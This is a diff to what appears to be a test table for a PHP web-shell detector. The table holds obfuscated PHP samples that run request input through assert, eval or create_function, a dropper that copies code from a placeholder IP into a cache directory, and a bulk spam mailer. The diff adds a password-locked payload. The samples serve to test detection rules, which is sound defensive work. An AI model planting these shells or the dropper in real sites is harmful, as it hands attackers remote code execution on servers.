@@ -94,6 +94,8 @@ var probes = []struct{ name, rule, src string }{
 	{"name assembled in a loop", "php.exec-input", `<?php $p = array('a', 's', 's', 'e', 'r', 't'); $f = ''; foreach ($p as $c) { $f .= $c; } $f($_REQUEST['c']);`},
 	{"code decoded by a global loop", "php.exec-input", `<?php $e = "6576616c28245f4745545b2763275d293b"; $d = ""; for ($i = 0; $i < strlen($e); $i += 2) { $d .= chr(hexdec(substr($e, $i, 2))); } eval($d);`},
 	{"shell without letters", "php.exec-input", "<?php $_ = \"\"; $_[+$_]++; $_ = $_ . \"\"; $a = $_[+\"\"]; $s = $a; for ($i = 0; $i < 18; $i++) { $s++; } $e = $a; for ($i = 0; $i < 4; $i++) { $e++; } $r = $a; for ($i = 0; $i < 17; $i++) { $r++; } $t = $r; $t++; $t++; $f = $a . $s . $s . $e . $r . $t; $f($_POST[1]);"},
+	{"payload locked with a request password", "php.exec-input", `<?php function unlock($d, $k) { $k = md5($k); $d = base64_decode($d); $o = ''; for ($i = 0; $i < strlen($d); $i++) { $o .= chr(ord($d[$i]) - ord($k[$i % 32])); } return $o; }
+		$f = create_function('', unlock('tn96sr2Ol5vGzrqtln16mo22nMqtrZ/Ofpqnnotifn+6jY5/uGiFl62Trp+VjaChlNCt1MKL0tiX', $_REQUEST['key'])); $f();`},
 	{"remote copy", "php.remote-dropper", `<?php copy("http://203.0.113.5/x.txt", "../cache/index.php");`},
 	{"spam mailer", "php.mailer", `<?php $to = explode("\n", $_POST['emails']); $h = "From: " . $_POST['from'] . "\r\n";
 		for ($i = 0; $i < count($to); $i++) { mail($to[$i], $_POST['subject'], stripslashes($_POST['body']), $h); }`},
